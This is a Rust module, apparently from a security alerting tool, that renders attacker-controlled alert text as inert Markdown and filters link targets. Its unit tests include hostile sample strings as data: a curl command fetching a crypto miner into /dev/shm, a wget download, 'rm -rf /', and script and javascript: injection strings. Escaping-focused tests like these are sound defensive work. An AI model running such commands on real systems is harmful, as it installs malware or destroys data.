//! Safe Markdown pieces for answers: alert text as inline code spans that nothing can break out
//! of, escaped prose, numbers, percentages, times and link targets.
//!
//! Alert values (command lines, file names, process names) are written by whoever controls the
//! workload, so they never reach the answer as Markdown: a code span shows them literally, with
//! a backtick fence longer than any backtick run inside and newlines folded into spaces.

/// Longest alert value shown whole in a [`short_code_span`], in characters.
pub const SHORT_SPAN_CHARS: usize = 160;

/// `value` as an inline code span: no link, HTML or Markdown structure inside it survives.
/// Newlines and tabs become spaces; an empty value becomes an en dash (an empty span would
/// print its backticks).
///
/// A word starting with `http://` or `https://` begins a span of its own (`` `curl -o f`
/// `http://x/f` ``): the grounding check drops bare addresses that follow a space before it
/// reads code spans, which would otherwise cut the span in two.
pub fn code_span(value: &str) -> String {
    let flat = single_line(value);
    if flat.trim().is_empty() {
        return "–".to_string();
    }
    let mut pieces: Vec<&str> = Vec::new();
    let mut start = 0;
    for (index, _) in flat.match_indices(' ') {
        let rest = &flat[index + 1..];
        let address = rest.starts_with("http://") || rest.starts_with("https://");
        if address && !flat[start..index].trim().is_empty() {
            pieces.push(&flat[start..index]);
            start = index + 1;
        }
    }
    pieces.push(&flat[start..]);
    pieces.iter().map(|piece| single_code_span(piece)).collect::<Vec<_>>().join(" ")
}

fn single_code_span(flat: &str) -> String {
    let longest_run = longest_backtick_run(flat);
    let fence = "`".repeat(longest_run + 1);
    // A span that starts or ends with a backtick needs a space inside the fence, and CommonMark
    // strips one space from each side of a span that has one on both.
    let pad = flat.starts_with('`') || flat.ends_with('`') || (flat.starts_with(' ') && flat.ends_with(' '));
    if pad { format!("{fence} {flat} {fence}") } else { format!("{fence}{flat}{fence}") }
}

/// A code span for a table cell: as [`code_span`], with `|` escaped so it does not end the
/// cell (GitHub-flavoured tables split cells before reading code spans).
pub fn table_code_span(value: &str) -> String {
    code_span(value).replace('|', "\\|")
}

/// A code span of at most [`SHORT_SPAN_CHARS`] characters, with `…` after the span when the
/// value was cut (a prefix of the value, so it stays a verbatim piece of the alert).
pub fn short_code_span(value: &str) -> String {
    let flat = single_line(value);
    match flat.char_indices().nth(SHORT_SPAN_CHARS) {
        Some((cut, _)) => format!("{}…", code_span(flat[..cut].trim_end())),
        None => code_span(&flat),
    }
}

/// Prose from a tool (a rule name, a category, an error message): Markdown punctuation is
/// backslash-escaped so it prints as written, newlines fold into spaces and `://` is broken
/// with an escape so no address becomes a link.
pub fn escape_text(value: &str) -> String {
    let flat = single_line(value);
    let mut escaped = String::with_capacity(flat.len() + 8);
    for character in flat.chars() {
        if matches!(
            character,
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '!' | '~' | '{' | '}' | '&' | '$'
        ) {
            escaped.push('\\');
        }
        escaped.push(character);
    }
    // Autolinks: `http://x` and `www.x` must not become links.
    escaped.replace("://", "\\://").replace("www.", "www\\.")
}

/// An integer with thousands separators (`1,234`), which the grounding check reads back as
/// the same number; other numbers as JSON writes them.
pub fn format_number(value: &serde_json::Value) -> String {
    if let Some(integer) = value.as_u64() {
        group_digits(&integer.to_string())
    } else if let Some(integer) = value.as_i64() {
        format!("-{}", group_digits(&integer.unsigned_abs().to_string()))
    } else if let Some(number) = value.as_f64() {
        number.to_string()
    } else {
        value.as_str().map(str::to_string).unwrap_or_default()
    }
}

fn group_digits(digits: &str) -> String {
    let mut grouped = String::with_capacity(digits.len() + digits.len() / 3);
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            grouped.push(',');
        }
        grouped.push(digit);
    }
    grouped
}

/// A signed change: `+33`, `-5`, `0`.
pub fn format_signed(value: &serde_json::Value) -> String {
    let text = format_number(value);
    match value.as_f64() {
        Some(number) if number > 0.0 => format!("+{text}"),
        _ => text,
    }
}

/// A percent change as the tool computed it (one decimal): `+94.3%`, `-12.5%`.
pub fn format_percent(value: &serde_json::Value) -> String {
    match value.as_f64() {
        Some(number) => {
            let text = if number.fract() == 0.0 { format!("{number:.0}") } else { number.to_string() };
            if number > 0.0 { format!("+{text}%") } else { format!("{text}%") }
        }
        None => String::new(),
    }
}

/// An RFC 3339 time as `2026-11-19 12:17:08 UTC` (whole seconds: each part is a verbatim
/// piece of the tool's timestamp). Anything else is escaped as prose.
pub fn format_time(value: &str) -> String {
    match split_timestamp(value) {
        Some((date, clock)) => format!("{date} {clock} UTC"),
        None => escape_text(value),
    }
}

/// The date of an RFC 3339 time: `2026-11-19`.
pub fn format_day(value: &str) -> String {
    match split_timestamp(value) {
        Some((date, _)) => date.to_string(),
        None => escape_text(value),
    }
}

/// A link target from a tool (`/events?scope=...`, an ATT&CK page): characters that would end
/// or break a Markdown link destination are percent-encoded; any other address becomes the
/// plain event feed.
pub fn link_target(value: &str) -> String {
    let mut safe = String::with_capacity(value.len());
    for character in value.chars() {
        match character {
            ' ' => safe.push_str("%20"),
            '(' => safe.push_str("%28"),
            ')' => safe.push_str("%29"),
            '<' => safe.push_str("%3C"),
            '>' => safe.push_str("%3E"),
            '"' => safe.push_str("%22"),
            '`' => safe.push_str("%60"),
            '\\' => safe.push_str("%5C"),
            '\n' | '\r' | '\t' => {}
            other => safe.push(other),
        }
    }
    // Only links into Saker's own event feed and to MITRE ATT&CK pages are written as links.
    let own = safe.starts_with('/') && !safe.starts_with("//");
    if own || safe.starts_with("https://attack.mitre.org/") { safe } else { "/events".to_string() }
}

fn split_timestamp(value: &str) -> Option<(&str, &str)> {
    let (date, rest) = value.split_once('T')?;
    let clock = rest.get(..8)?;
    let date_ok = date.len() == 10 && date.bytes().all(|byte| byte.is_ascii_digit() || byte == b'-');
    let clock_ok = clock.bytes().all(|byte| byte.is_ascii_digit() || byte == b':');
    (date_ok && clock_ok).then_some((date, clock))
}

fn single_line(value: &str) -> String {
    value.chars().map(|character| if matches!(character, '\n' | '\r' | '\t') { ' ' } else { character }).collect()
}

fn longest_backtick_run(value: &str) -> usize {
    let mut longest = 0;
    let mut current = 0;
    for character in value.chars() {
        if character == '`' {
            current += 1;
            longest = longest.max(current);
        } else {
            current = 0;
        }
    }
    longest
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn code_spans_use_a_fence_longer_than_any_backtick_run() {
        assert_eq!(code_span("bash ./malicious-bin-event-gen.sh"), "`bash ./malicious-bin-event-gen.sh`");
        assert_eq!(code_span("echo `id`"), "`` echo `id` ``");
        assert_eq!(code_span("a ``b`` c"), "```a ``b`` c```");
        assert_eq!(code_span("`x"), "`` `x ``");
        assert_eq!(code_span(" padded "), "`  padded  `");
    }

    #[test]
    fn addresses_start_a_span_of_their_own() {
        assert_eq!(
            code_span("curl -fsSL -o /dev/shm/easyminer http://203.0.113.50/dl/easyminer"),
            "`curl -fsSL -o /dev/shm/easyminer` `http://203.0.113.50/dl/easyminer`"
        );
        assert_eq!(code_span("wget https://x/a -O b"), "`wget` `https://x/a -O b`");
        assert_eq!(code_span("http://x"), "`http://x`");
    }

    #[test]
    fn code_spans_fold_newlines_and_never_hold_structure() {
        assert_eq!(code_span("rm -rf /\n# heading\n[link](http://x)"), "`rm -rf / # heading [link](http://x)`");
        assert_eq!(code_span("a\nhttp://x"), "`a` `http://x`");
        assert_eq!(code_span("<script>alert(1)</script>"), "`<script>alert(1)</script>`");
        assert_eq!(code_span(""), "–");
        assert_eq!(code_span("\n"), "–");
        assert_eq!(table_code_span("ps aux | grep x"), "`ps aux \\| grep x`");
    }

    #[test]
    fn short_spans_cut_long_values_outside_the_span() {
        let long = "x".repeat(SHORT_SPAN_CHARS + 5);
        let span = short_code_span(&long);
        assert!(span.ends_with("`…"));
        assert_eq!(span.matches('x').count(), SHORT_SPAN_CHARS);
        assert_eq!(short_code_span("curl -fsSL"), "`curl -fsSL`");
    }

    #[test]
    fn prose_is_escaped_and_addresses_do_not_link() {
        assert_eq!(escape_text("Execution from /dev/shm"), "Execution from /dev/shm");
        assert_eq!(escape_text("[click](x) *bold* <b>"), "\\[click\\](x) \\*bold\\* \\<b\\>");
        assert_eq!(escape_text("see http://203.0.113.50/dl"), "see http\\://203.0.113.50/dl");
        assert_eq!(escape_text("a\nb"), "a b");
    }

    #[test]
    fn numbers_are_grouped_and_signed() {
        assert_eq!(format_number(&json!(300)), "300");
        assert_eq!(format_number(&json!(1234567)), "1,234,567");
        assert_eq!(format_number(&json!(-1234)), "-1,234");
        assert_eq!(format_number(&json!(u64::MAX)), "18,446,744,073,709,551,615");
        assert_eq!(format_number(&json!(0.5)), "0.5");
        assert_eq!(format_signed(&json!(33)), "+33");
        assert_eq!(format_signed(&json!(-5)), "-5");
        assert_eq!(format_signed(&json!(0)), "0");
        assert_eq!(format_percent(&json!(94.3)), "+94.3%");
        assert_eq!(format_percent(&json!(-12.5)), "-12.5%");
        assert_eq!(format_percent(&json!(100.0)), "+100%");
        assert_eq!(format_percent(&json!(null)), "");
    }

    #[test]
    fn times_keep_verbatim_pieces() {
        assert_eq!(format_time("2026-11-19T12:17:08.479301803Z"), "2026-11-19 12:17:08 UTC");
        assert_eq!(format_time("2026-11-20T12:00:00Z"), "2026-11-20 12:00:00 UTC");
        assert_eq!(format_day("2026-11-20T00:00:00Z"), "2026-11-20");
        assert_eq!(format_time("yesterday"), "yesterday");
    }

    #[test]
    fn link_targets_cannot_end_the_link() {
        assert_eq!(link_target("/events?scope=k8s.ns.name%3Da"), "/events?scope=k8s.ns.name%3Da");
        assert_eq!(link_target("/events?scope=a) [x](y"), "/events?scope=a%29%20[x]%28y");
        assert_eq!(link_target("javascript:alert(1)"), "/events");
        assert_eq!(
            link_target("https://attack.mitre.org/techniques/T1059/004"),
            "https://attack.mitre.org/techniques/T1059/004"
        );
        assert_eq!(link_target("https://evil.example/x"), "/events");
    }
}
